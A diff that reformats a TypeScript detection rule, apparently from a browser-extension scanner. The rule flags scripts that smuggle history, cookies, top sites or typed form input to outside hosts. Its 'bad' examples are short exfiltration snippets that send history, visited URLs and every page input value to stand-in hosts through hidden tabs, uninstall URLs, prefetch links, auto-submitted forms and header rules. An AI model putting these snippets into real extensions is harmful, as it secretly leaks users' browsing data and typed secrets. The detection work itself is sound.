@@ -1,4 +1,15 @@
-import { apiPath, callsNamed, callsOf, constant, Op, pattern, propertyOf, receiverOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsNamed,
+  callsOf,
+  constant,
+  Op,
+  pattern,
+  propertyOf,
+  receiverOf,
+  writesOf,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
 import { tagOf } from './codeRuns.ts';
@@ -6,7 +17,23 @@ import { hostOf, leadsOut, requestsOf } from './network.ts';
 import { originsOf } from './origins.ts';
 import { few, itemsOf } from './usage.ts';
 
-const SOURCES = ['chrome.history.search', 'chrome.history.getVisits', 'chrome.bookmarks.getTree', 'chrome.bookmarks.search', 'chrome.topSites.get', 'chrome.cookies.get', 'chrome.cookies.getAll', 'chrome.cookies.onChanged.addListener', 'chrome.tabs.onUpdated.addListener', 'chrome.tabs.onActivated.addListener', 'chrome.webNavigation.onCompleted.addListener', 'chrome.webNavigation.onCommitted.addListener', 'chrome.sessions.getRecentlyClosed', 'chrome.management.getAll', 'chrome.downloads.search'];
+const SOURCES = [
+  'chrome.history.search',
+  'chrome.history.getVisits',
+  'chrome.bookmarks.getTree',
+  'chrome.bookmarks.search',
+  'chrome.topSites.get',
+  'chrome.cookies.get',
+  'chrome.cookies.getAll',
+  'chrome.cookies.onChanged.addListener',
+  'chrome.tabs.onUpdated.addListener',
+  'chrome.tabs.onActivated.addListener',
+  'chrome.webNavigation.onCompleted.addListener',
+  'chrome.webNavigation.onCommitted.addListener',
+  'chrome.sessions.getRecentlyClosed',
+  'chrome.management.getAll',
+  'chrome.downloads.search',
+];
 
 export const browsingDataSmuggled = defineRule({
   id: 'browsing-data-smuggled',
@@ -22,31 +49,64 @@ export const browsingDataSmuggled = defineRule({
   check: checkScripts(function* ({ script, hit }) {
     yield* headers(script, hit);
     const taken = new Set(callsOf(script, ...SOURCES).map((call) => call.value));
-    const typed = new Set(few(callsOf(script, 'document.querySelectorAll', 'document.getElementsByTagName'), 100).filter((call) => /\b(input|textarea|select)\b/i.test(constant(script, call.args[0] ?? 0) ?? '')).map((call) => call.value));
+    const typed = new Set(
+      few(callsOf(script, 'document.querySelectorAll', 'document.getElementsByTagName'), 100)
+        .filter((call) => /\b(input|textarea|select)\b/i.test(constant(script, call.args[0] ?? 0) ?? ''))
+        .map((call) => call.value),
+    );
     if (taken.size === 0 && typed.size === 0) return;
     for (const { value, to, way } of ways(script)) {
       const origins = originsOf(script, value);
-      if ([...taken].some((one) => origins.has(one))) yield hit(value, { message: `It stands in the address of ${way}: ${to.slice(0, 80)}` });
+      if ([...taken].some((one) => origins.has(one)))
+        yield hit(value, { message: `It stands in the address of ${way}: ${to.slice(0, 80)}` });
     }
     // A form of the script's own that is filled with what is typed in others, and sent.
-    const form = writesOf(script, 'action').find((write) => tagOf(script, write.object) === 'form' && leadsOut(pattern(script, write.value)));
+    const form = writesOf(script, 'action').find(
+      (write) => tagOf(script, write.object) === 'form' && leadsOut(pattern(script, write.value)),
+    );
     if (form === undefined || callsNamed(script, 'submit').length === 0) return;
-    const filled = writesOf(script, 'value').find((write) => tagOf(script, write.object) === 'input' && [...typed, ...taken].some((one) => originsOf(script, write.value).has(one)));
-    if (filled !== undefined) yield hit(filled.value, { severity: 'critical', message: `It is put into a form that goes to ${pattern(script, form.value)}.` });
+    const filled = writesOf(script, 'value').find(
+      (write) =>
+        tagOf(script, write.object) === 'input' &&
+        [...typed, ...taken].some((one) => originsOf(script, write.value).has(one)),
+    );
+    if (filled !== undefined)
+      yield hit(filled.value, {
+        severity: 'critical',
+        message: `It is put into a form that goes to ${pattern(script, form.value)}.`,
+      });
   }),
   examples: {
     bad: [
-      backgroundExample('chrome.history.search({ text: "" }, (r) => { const d = encodeURIComponent(JSON.stringify(r.map((x) => x.url))); chrome.tabs.create({ url: "https://r.example/c#" + d, active: false }); });'),
-      backgroundExample('chrome.topSites.get((s) => chrome.runtime.setUninstallURL("https://bye.example/?s=" + encodeURIComponent(s.map((x) => x.url).join(","))));'),
-      backgroundExample('chrome.tabs.onUpdated.addListener((id, c, t) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://cdn.example/" + btoa(t.url) + ".css"; document.head.append(l); });'),
-      contentExample('addEventListener("beforeunload", () => { const f = document.createElement("form"); f.action = "https://save.example/p"; const a = document.createElement("input"); a.value = JSON.stringify([...document.querySelectorAll("input")].map((e) => e.value)); f.append(a); document.body.append(f); f.submit(); });'),
-      backgroundExample('chrome.runtime.onMessage.addListener(async ({ k }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "stats.x.example" }, action: { type: "modifyHeaders", requestHeaders: [{ header: "accept-language", operation: "set", value: k }] } }] }); await fetch("https://stats.x.example/p.gif"); });'),
+      backgroundExample(
+        'chrome.history.search({ text: "" }, (r) => { const d = encodeURIComponent(JSON.stringify(r.map((x) => x.url))); chrome.tabs.create({ url: "https://r.example/c#" + d, active: false }); });',
+      ),
+      backgroundExample(
+        'chrome.topSites.get((s) => chrome.runtime.setUninstallURL("https://bye.example/?s=" + encodeURIComponent(s.map((x) => x.url).join(","))));',
+      ),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((id, c, t) => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://cdn.example/" + btoa(t.url) + ".css"; document.head.append(l); });',
+      ),
+      contentExample(
+        'addEventListener("beforeunload", () => { const f = document.createElement("form"); f.action = "https://save.example/p"; const a = document.createElement("input"); a.value = JSON.stringify([...document.querySelectorAll("input")].map((e) => e.value)); f.append(a); document.body.append(f); f.submit(); });',
+      ),
+      backgroundExample(
+        'chrome.runtime.onMessage.addListener(async ({ k }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "stats.x.example" }, action: { type: "modifyHeaders", requestHeaders: [{ header: "accept-language", operation: "set", value: k }] } }] }); await fetch("https://stats.x.example/p.gif"); });',
+      ),
     ],
     good: [
-      backgroundExample('chrome.runtime.onMessage.addListener(async ({ name, text }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "*" }, action: { type: "modifyHeaders", requestHeaders: [{ header: name, operation: "set", value: text }] } }] }); await fetch("https://tool.example/ping"); });'),
-      backgroundExample('chrome.runtime.setUninstallURL("https://tool.example/bye?v=" + chrome.runtime.getManifest().version); chrome.history.search({ text: "" }, show);'),
-      backgroundExample('chrome.tabs.onUpdated.addListener((id, c, t) => { if (t.url.startsWith("https://old.example/")) chrome.tabs.create({ url: "https://new.example/" }); });'),
-      contentExample('const f = document.createElement("form"); f.action = "https://tool.example/search"; const q = document.createElement("input"); q.value = getSelection().toString(); f.append(q); f.submit(); document.querySelectorAll("input").forEach(style);'),
+      backgroundExample(
+        'chrome.runtime.onMessage.addListener(async ({ name, text }) => { await chrome.declarativeNetRequest.updateSessionRules({ addRules: [{ id: 9, condition: { urlFilter: "*" }, action: { type: "modifyHeaders", requestHeaders: [{ header: name, operation: "set", value: text }] } }] }); await fetch("https://tool.example/ping"); });',
+      ),
+      backgroundExample(
+        'chrome.runtime.setUninstallURL("https://tool.example/bye?v=" + chrome.runtime.getManifest().version); chrome.history.search({ text: "" }, show);',
+      ),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((id, c, t) => { if (t.url.startsWith("https://old.example/")) chrome.tabs.create({ url: "https://new.example/" }); });',
+      ),
+      contentExample(
+        'const f = document.createElement("form"); f.action = "https://tool.example/search"; const q = document.createElement("input"); q.value = getSelection().toString(); f.append(q); f.submit(); document.querySelectorAll("input").forEach(style);',
+      ),
     ],
   },
 });
@@ -55,7 +115,11 @@ const HEARD = ['chrome.runtime.onMessage.addListener', 'chrome.runtime.onConnect
 
 /** Rules of the browser that set a header to what another part of the extension found or what was taken from the browser. */
 function* headers(script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
-  const calls = callsOf(script, 'chrome.declarativeNetRequest.updateSessionRules', 'chrome.declarativeNetRequest.updateDynamicRules');
+  const calls = callsOf(
+    script,
+    'chrome.declarativeNetRequest.updateSessionRules',
+    'chrome.declarativeNetRequest.updateDynamicRules',
+  );
   if (calls.length === 0 || !script.strings.includes('requestHeaders')) return;
   const from = new Set(callsOf(script, ...SOURCES, ...HEARD).map((call) => call.value));
   for (let value = 1, looked = 0; value < script.op.length && looked < 2000; value++) {
@@ -64,11 +128,23 @@ function* headers(script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
     for (const item of itemsOf(script, propertyOf(script, value, 'requestHeaders'))) {
       const given = propertyOf(script, item, 'value');
       // Only for a server that the rule names itself: settings for all sites are the person's.
-      if (given === 0 || constant(script, given) !== undefined || !calls.some((call) => originsOf(script, call.args[0] ?? 0).has(value))) continue;
+      if (
+        given === 0 ||
+        constant(script, given) !== undefined ||
+        !calls.some((call) => originsOf(script, call.args[0] ?? 0).has(value))
+      )
+        continue;
       const origins = originsOf(script, given);
       if (![...from].some((one) => origins.has(one))) continue;
-      const host = requestsOf(script).map((request) => hostOf(request.to)).find((one) => one !== undefined && script.strings.some((text) => text.length < 100 && text.includes(one) && !text.includes('/')));
-      if (host !== undefined) yield hit(value, { message: `A rule of the browser puts it into the headers of requests to ${host}.` });
+      const host = requestsOf(script)
+        .map((request) => hostOf(request.to))
+        .find(
+          (one) =>
+            one !== undefined &&
+            script.strings.some((text) => text.length < 100 && text.includes(one) && !text.includes('/')),
+        );
+      if (host !== undefined)
+        yield hit(value, { message: `A rule of the browser puts it into the headers of requests to ${host}.` });
     }
   }
 }
@@ -82,15 +158,27 @@ function* ways(script: ScriptFacts): Generator<{ value: number; to: string; way:
   };
   for (const call of few(callsOf(script, 'chrome.tabs.create', 'chrome.windows.create'))) {
     const options = call.args[0] ?? 0;
-    const hidden = constant(script, propertyOf(script, options, 'active')) === 'false' || script.strings[script.a[propertyOf(script, options, 'active')] ?? -1] === 'false' || constant(script, propertyOf(script, options, 'state')) === 'minimized';
+    const hidden =
+      constant(script, propertyOf(script, options, 'active')) === 'false' ||
+      script.strings[script.a[propertyOf(script, options, 'active')] ?? -1] === 'false' ||
+      constant(script, propertyOf(script, options, 'state')) === 'minimized';
     if (hidden) yield* known(propertyOf(script, options, 'url'), 'a tab that is not shown');
   }
-  for (const call of callsOf(script, 'chrome.runtime.setUninstallURL')) yield* known(call.args[0] ?? 0, 'the page shown after removal');
-  for (const write of few(writesOf(script, 'href'), 200)) if (tagOf(script, write.object) === 'link') yield* known(write.value, 'a style or prefetched page');
-  for (const call of few(callsNamed(script, 'setAttribute'), 200)) if (/^(href|src)$/.test(constant(script, call.args[0] ?? 0) ?? '') && /^(link|img|iframe|script)$/.test(tagOf(script, receiverOf(script, call)) ?? '')) yield* known(call.args[1] ?? 0, 'a part of a page');
+  for (const call of callsOf(script, 'chrome.runtime.setUninstallURL'))
+    yield* known(call.args[0] ?? 0, 'the page shown after removal');
+  for (const write of few(writesOf(script, 'href'), 200))
+    if (tagOf(script, write.object) === 'link') yield* known(write.value, 'a style or prefetched page');
+  for (const call of few(callsNamed(script, 'setAttribute'), 200))
+    if (
+      /^(href|src)$/.test(constant(script, call.args[0] ?? 0) ?? '') &&
+      /^(link|img|iframe|script)$/.test(tagOf(script, receiverOf(script, call)) ?? '')
+    )
+      yield* known(call.args[1] ?? 0, 'a part of a page');
   for (const write of few(writesOf(script, 'backgroundImage', 'background', 'cssText'), 200)) {
     const to = /url\(["']?((?:https?:)?\/\/[^)*]+[^)]*\*)/i.exec(pattern(script, write.value))?.[1];
     if (to !== undefined) yield { value: write.value, to, way: 'a picture in a style' };
   }
-  for (const write of few(writesOf(script, 'src'), 200)) if (tagOf(script, write.object) === 'iframe' && apiPath(script, write.object) !== 'Image()') yield* known(write.value, 'a frame');
+  for (const write of few(writesOf(script, 'src'), 200))
+    if (tagOf(script, write.object) === 'iframe' && apiPath(script, write.object) !== 'Image()')
+      yield* known(write.value, 'a frame');
 }
